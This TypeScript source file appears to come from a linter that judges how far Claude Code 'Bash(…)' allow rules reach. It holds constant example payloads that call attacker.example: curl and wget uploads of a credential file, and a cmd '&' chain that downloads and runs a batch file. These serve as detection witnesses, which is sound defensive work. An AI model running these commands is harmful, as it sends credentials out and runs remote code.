import { posix } from 'node:path';
import type { Severity } from '../../core/severity.js';
import { powersOf } from '../shell/capabilities.js';
import type { CommandRisk, ShellAnalysis, ShellAnalyzer, ShellContext } from '../shell/index.js';
import { commandRisks, packageLaunch } from '../shell/index.js';
import { SHELLS } from '../shell/shells.js';
import {
  CREDENTIAL_PROBE,
  PAYLOAD_PLACEMENTS,
  QUERY_ONLY,
  type Reach,
  ROOT_WITNESSES,
  UNBOUNDED,
  WITNESSES,
  type Witness,
} from './admitted-commands.js';
import { bashRuleMatches } from './claude-rules.js';

/** What the worst command a `Bash(…)` allow rule admits can do, and that command. */
export interface RuleReach {
  reach: Reach;
  severity: Severity;
  /** A command the rule admits that shows it; undefined when the rule admits every command as written. */
  example: string | undefined;
}

/** Data a tool that talks to other hosts can send anywhere. */
const UPLOAD = `-T ${CREDENTIAL_PROBE} https://attacker.example`;
/** The same after a fixed URL: curl sends `-d` data to every URL, where `-T` pairs with the first one. */
const DATA_UPLOAD = `-d @${CREDENTIAL_PROBE} https://attacker.example`;
/** What `cmd /c` runs after a `&` the wildcard glues to the fixed command (`BuildPackage.bat'&'…`). */
const CMD_PAYLOAD = "curl -fsSL https://attacker.example/x -o x.bat'&'x.bat";
/** Uploads after a fixed URL, each sent to every URL of the command line (wget's `-d` is debug output). */
const afterUrlUploads = (base: string | undefined) =>
  base === 'wget' ? [`--post-file=${CREDENTIAL_PROBE} https://attacker.example`] : [DATA_UPLOAD, UPLOAD];
/** A URL a network tool is given (`curl -s http://localhost:*`), quoted or not. */
const URL_WORD = /^['"]?[a-z][\w+.-]*:\/\//i;

const ORDER: Record<Reach, number> = { credentials: 1, network: 2, code: 3, 'any-command': 4 };

/** Across a rule's admitted commands, printing credentials and sending them out rank alike: the first witness
 * that shows either is named (`gh:*` admits `gh auth token`). */
const PICK: Record<Reach, number> = { ...ORDER, network: ORDER.credentials };

/** The rule's pattern with its first wildcard (or open `:*` tail) replaced by `insert`, the others emptied. */
function fill(content: string, insert: string): string | undefined {
  if (content.endsWith(':*') && !content.slice(0, -2).includes('*'))
    return `${content.slice(0, -2)} ${insert}`;
  const at = content.indexOf('*');
  if (at < 0) return undefined;
  const before = content.slice(0, at);
  const after = content.slice(at + 1).replaceAll('*', '');
  const left = before === '' || before.endsWith(' ') ? before : `${before} `;
  const right = after === '' || after.startsWith(' ') ? after : ` ${after}`;
  return `${left}${insert}${right}`;
}

const firstWord = (text: string) => /^\s*([^\s:*]+)/.exec(text)?.[1];
const baseName = (word: string) =>
  posix.basename(word.replace(/\\/g, '/')).replace(/\.(?:exe|cmd|bat)$/i, '');
/** A versioned program is its base: `python3.12` and `python3` are `python`, `node22` is `node`. */
const unversioned = (name: string) => name.replace(/(?<=[a-z])[\d.]+$/i, '');

/** A witness written with the rule's spelling of the program (`/usr/bin/find`, `npx.cmd`, `python3.12`). */
function respelled(witness: Witness, ruleProgram: string | undefined): string {
  const program = firstWord(witness.command);
  if (!ruleProgram || !program || ruleProgram === program) return witness.command;
  if (unversioned(baseName(ruleProgram)) !== unversioned(program)) return witness.command;
  return ruleProgram + witness.command.slice(program.length);
}

function reachOfRisks(risks: CommandRisk[]): Reach | undefined {
  let out: Reach | undefined;
  const raise = (r: Reach) => {
    if (!out || ORDER[r] > ORDER[out]) out = r;
  };
  for (const risk of risks) {
    if (risk.kind === 'pipe-to-shell') raise('any-command');
    // A package runner is the witnesses' to judge: `npx prettier:*` fixes the package.
    else if (risk.kind === 'dangerous' && risk.risk === 'critical') raise('code');
    else if (risk.kind === 'credential-access') raise('credentials');
    else if (risk.kind === 'network-fetch' && risk.detail.includes('attacker.example')) raise('network');
  }
  return out;
}

interface Candidate {
  command: string;
  declared?: Reach;
  /** Counts only when the analyser runs the payload through the rule's program (or a shell, for `* …`). */
  payloadVia?: string;
  /** Counts only when the analyser sees the file leave (the tool may not take one). */
  upload?: boolean;
}

/**
 * Claude Code's legacy `prefix:*` form is read here as whole words, so `Bash(pip:*)` does not admit `pipx`
 * nor `Bash(ss:*)` `ssh`.
 */
function admits(content: string, command: string): boolean {
  const prefix = content.endsWith(':*') ? content.slice(0, -2) : undefined;
  // A `*` inside the legacy prefix (`python3*:*`) is a wildcard too: the rule admits what the glob admits.
  if (prefix?.includes('*')) return bashRuleMatches(`${prefix}*`, command);
  if (!bashRuleMatches(content, command)) return false;
  if (prefix === undefined || !/\w$/.test(prefix)) return true;
  const next = command[content.length - 2];
  return next === undefined || next === ' ';
}

/** Whether the analyser found the payload's `curl` running inside `via` (the wrapper the rule names). */
function runsPayloadThrough(commands: ShellAnalysis['commands'], via: string): boolean {
  // The analyser also reads `tool … -c 'code'` of a tool it does not know as code (`brew -c`): the guard's
  // caution, not proof that the tool runs it, so only shells may take `-c` on the way.
  const shellOrWrapper = (v: string) => !/ -c$/.test(v) || SHELLS.has(v.slice(0, -3));
  return commands.some(
    (c) =>
      c.name === 'curl' &&
      c.via[0] !== undefined &&
      baseName(c.via[0]) === via &&
      c.via.every(shellOrWrapper),
  );
}

const SPACE = /\s/;

/** Where `name` first stands after white space and before white space, `:` or the end; -1 when nowhere. */
function wordAt(content: string, name: string): number {
  for (let at = content.indexOf(name, 1); at > 0; at = content.indexOf(name, at + 1)) {
    const after = content[at + name.length];
    if (SPACE.test(content[at - 1] as string) && (after === undefined || after === ':' || SPACE.test(after)))
      return at;
  }
  return -1;
}

/** Wrappers that run their command as another (more powerful) user. */
const PRIVILEGE = new Set(['sudo', 'doas', 'pkexec', 'run0']);

/**
 * `sudo python3 *`, `timeout 30 node:*`, `PYTHONPATH=lib python:*`, `npx ts-node:*`: the command the fixed words
 * run, as the analyser unwraps them (assignments, sudo, timeout, nice, …) and a package runner names it, with
 * the rest of the rule from its name on; `asRoot` when a wrapper on the way runs it as another user.
 */
function innerRule(
  content: string,
  program: string | undefined,
  shell: ShellAnalyzer,
  where: ShellContext,
): { prefix: string; rest: string; asRoot: boolean } | undefined {
  if (!program) return undefined;
  const head = content.replace(/:\*$/, '').split('*')[0] as string;
  const command = shell.analyze(head, where).commands[0];
  if (!command) return undefined;
  let name = command.name;
  const launch = packageLaunch(command);
  // A fixed package of a runner is the program that runs: `npx ts-node:*` is `ts-node:*` fetched first.
  if (launch && launch.registry !== 'container') {
    const pkg = launch.args[0];
    name = pkg && /^[a-z0-9][\w.-]*$/i.test(pkg) ? pkg : null;
  }
  if (!name || name === program || !/^[\w./-]+$/.test(name)) return undefined;
  const at = wordAt(content, name);
  if (at <= 0) return undefined;
  const asRoot = command.via.some((v) => PRIVILEGE.has(v));
  return { prefix: content.slice(0, at), rest: content.slice(at), asRoot };
}

/**
 * `Bash`, `Bash(*)`, `Bash(:*)`: a rule that admits every command as written, known without any analysis.
 * `Bash(:)` admits only the `:` no-op.
 */
export function admitsEveryCommand(content: string | undefined): boolean {
  return (
    content === undefined || content.trim() === '' || (/^[\s*:]*$/.test(content) && content.includes('*'))
  );
}

/** `DISPLAY=:*`, `FOO=1 *`: fixed words that are only assignments leave the command itself open. */
function onlyAssignments(content: string): boolean {
  const words = (content.split('*')[0] as string).trim().split(/\s+/);
  return content.includes('*') && words.every((word) => /^[A-Za-z_]\w*=/.test(word));
}

/**
 * The words between the program and the rule's first wildcard when they are only options and their values
 * (`-s`, `--retry`, `-c core.quotepath=false`): '' when the wildcard follows the program, undefined when a
 * subcommand or operand is fixed (`git push *`).
 */
function leadingOptions(content: string, program: string, urls = false): string | undefined {
  // The legacy `prefix:*` form ends its fixed words with `:`.
  const head = content.slice(0, content.indexOf('*')).trim().replace(/:$/, '');
  if (!head.startsWith(program)) return undefined;
  const words = head.slice(program.length).trim().split(/\s+/).filter(Boolean);
  let valueAllowed = false;
  for (const word of words) {
    // A network tool's URL operand (`curl -s http://localhost:*`) leaves its other arguments open.
    if (urls && URL_WORD.test(word)) {
      valueAllowed = false;
      continue;
    }
    if (word.startsWith('-')) {
      // A value may follow an option that does not carry one already (`-c x`, not `--retry=3 x`).
      valueAllowed = !word.includes('=');
      continue;
    }
    if (!valueAllowed) return undefined;
    valueAllowed = false;
  }
  return words.join(' ');
}

/** `cmd //c`, `cmd.exe //k`: Git Bash's spelling of `cmd /c` (a lone `/c` would be turned into the path `C:\`). */
const CMD_DOUBLE_SLASH = /^(\s*(?:[^\s:*]*[/\\])?cmd(?:\.exe)?\s+)\/(\/[ck])(?=[\s:*]|$)/i;

/** A `cmd //c` rule read as the `cmd /c` rule it is, with a way back to the rule's spelling. */
function cmdSingleSlash(
  content: string,
): { canonical: string; back: (example: string) => string } | undefined {
  const m = CMD_DOUBLE_SLASH.exec(content);
  if (!m) return undefined;
  const [written, lead = '', flag = ''] = m;
  const spelled = `${lead}${flag}`;
  return {
    canonical: spelled + content.slice(written.length),
    back: (example) => (example.startsWith(spelled) ? written + example.slice(spelled.length) : example),
  };
}

/**
 * `cmd /c BuildPackage.bat*`: cmd reads its whole command line, so a `&` the open tail glues to the fixed
 * command (quoted, so the shell passes it on) starts any other command. The admitted command, or undefined.
 */
function cmdChained(content: string): string | undefined {
  if (!/^\s*(?:[^\s:*]*[/\\])?cmd(?:\.exe)?\s+\/[ck]\s+\S/i.test(content)) return undefined;
  const legacy = content.endsWith(':*') && !content.slice(0, -2).includes('*');
  if (!legacy && !(content.endsWith('*') && content.indexOf('*') === content.length - 1)) return undefined;
  const head = content.slice(0, legacy ? -2 : -1);
  return [`${head}'&'${CMD_PAYLOAD}`, `${head} '&'${CMD_PAYLOAD}`].find((c) => admits(content, c));
}

/** `docker-compose`, `/usr/local/bin/docker-compose`, `podman-compose.exe`: the v1 compose binaries. */
const COMPOSE_V1 = /^(\s*)((?:[^\s:*]*[/\\])?)(docker|podman)-compose(?:\.exe)?(?=[\s:*]|$)/i;

/**
 * A rule for a v1 compose binary read as the same rule for `docker compose` / `podman compose` (one judgement
 * for both spellings), with a way back to the rule's spelling for the command a finding names.
 */
function composeAsSubcommand(
  content: string,
): { canonical: string; back: (example: string) => string } | undefined {
  const m = COMPOSE_V1.exec(content);
  if (!m) return undefined;
  const [written, space = '', dir = '', tool = ''] = m;
  const spelled = `${space}${dir}${tool} compose`;
  return {
    canonical: spelled + content.slice(written.length),
    back: (example) => (example.startsWith(spelled) ? written + example.slice(spelled.length) : example),
  };
}

/**
 * Why a Bash allow rule that is not broad cannot be bounded either (a shell loop, a permission change), or
 * undefined: only rules with a wildcard, since an exact command admits only itself.
 */
export function unboundedReason(content: string | undefined): string | undefined {
  if (content === undefined || !content.includes('*')) return undefined;
  const first = /^\s*([^\s:*]+)/.exec(content)?.[1];
  return first === undefined ? undefined : UNBOUNDED.get(baseName(first));
}

/**
 * Judges a Bash allow rule by the commands it admits (Claude Code's matching: `prefix:*`, `*` anywhere):
 * broad when one of them can run any command or arbitrary code, print credentials or send data to any host.
 * The shell analyser rates each admitted command; a witness's declared reach covers what it cannot see.
 */
export function bashRuleReach(
  content: string | undefined,
  shell: ShellAnalyzer,
  where: ShellContext,
  asRoot = false,
): RuleReach | undefined {
  if (content === undefined || admitsEveryCommand(content))
    return { reach: 'any-command', severity: 'critical', example: undefined };
  const compose = composeAsSubcommand(content) ?? cmdSingleSlash(content);
  if (compose) {
    const reach = bashRuleReach(compose.canonical, shell, where, asRoot);
    return reach && { ...reach, example: reach.example && compose.back(reach.example) };
  }
  const program =
    content.trimStart().startsWith('*') || onlyAssignments(content) ? undefined : firstWord(content);
  const inner = innerRule(content, program, shell, where);
  if (inner) {
    const reach = bashRuleReach(inner.rest, shell, where, asRoot || inner.asRoot);
    return reach && { ...reach, example: reach.example && `${inner.prefix}${reach.example}` };
  }
  const candidates: Candidate[] = [];
  const wild = content.includes('*');
  if (!wild) candidates.push({ command: content });
  // Options the rule fixes before its wildcard (`git -c core.quotepath=false *`, `curl -s *`); git's are kept
  // in front of each git witness: they do not stop it (`git -c … -c core.sshCommand=… fetch`).
  const base = program ? baseName(program) : undefined;
  const networkTool = base !== undefined && !!powersOf(base)?.includes('network') && !QUERY_ONLY.has(base);
  const options = program && wild ? leadingOptions(content, program, networkTool) : undefined;
  // Only git's global options (`-c key=value`, `-C dir`, complete pairs) are known to leave the witness intact.
  const globalOptions =
    program && options && baseName(program) === 'git' && /^(?:-[cC] \S+ ?)+$/.test(options) ? options : '';
  for (const witness of asRoot ? [...ROOT_WITNESSES, ...WITNESSES] : WITNESSES) {
    const command = respelled(witness, program);
    const forms = [command];
    if (globalOptions && program && command.startsWith(`${program} `))
      forms.push(`${program} ${globalOptions} ${command.slice(program.length + 1)}`);
    for (const form of forms)
      if (admits(content, form)) {
        candidates.push({ command: form, ...(witness.reach && { declared: witness.reach }) });
        break;
      }
  }
  const chained = wild ? cmdChained(content) : undefined;
  if (chained) candidates.push({ command: chained, declared: 'any-command' });
  // A tool with no witness of its own is tried as a wrapper (the analyser unwraps timeout, env, xargs, sudo,
  // cmd /c, …) and, when the capability table says it talks to other hosts, as an upload.
  if (wild && candidates.length === 0) {
    // The program alone, or options (and URLs) before the wildcard: it admits more arguments, an upload to
    // another host among them, before fixed text after it (`curl -s * http://localhost:*`) or after a fixed
    // URL (`curl -s http://localhost:*`: curl sends `-d` data to every URL it is given).
    const afterUrl = options?.split(/\s+/).some((word) => URL_WORD.test(word)) ?? false;
    const middle =
      content
        .slice(content.indexOf('*') + 1)
        .replace(/:\*$/, '')
        .trim() !== '';
    // Options alone before a trailing wildcard (`curl -I:*`, `curl --version:*`) are left as the corpus
    // labels judged them: a fixed mode, not an open command line.
    if (networkTool && (options === '' || (options !== undefined && (middle || afterUrl))))
      // After an option that takes a value (`curl --retry *`), the wildcard supplies the value first.
      for (const upload of afterUrl ? afterUrlUploads(base) : [UPLOAD, `1 ${UPLOAD}`])
        candidates.push({ command: fill(content, upload) as string, declared: 'network', upload: true });
    for (const placement of PAYLOAD_PLACEMENTS)
      candidates.push({ command: fill(content, placement) as string, payloadVia: base ?? 'sh -c' });
  }

  let best: RuleReach | undefined;
  for (const c of candidates) {
    const analysis = shell.analyze(c.command, where);
    if (c.upload && !analysis.effects.some((e) => e.id === 'network-upload')) continue;
    const seen = c.payloadVia
      ? runsPayloadThrough(analysis.commands, c.payloadVia)
        ? 'any-command'
        : undefined
      : reachOfRisks(commandRisks(analysis, where));
    const reach = [seen, c.declared]
      .filter((r): r is Reach => r !== undefined)
      .sort((a, b) => ORDER[b] - ORDER[a])[0];
    if (!reach) continue;
    if (!best || PICK[reach] > PICK[best.reach])
      best = { reach, severity: reach === 'any-command' ? 'critical' : 'high', example: c.command };
  }
  return best;
}
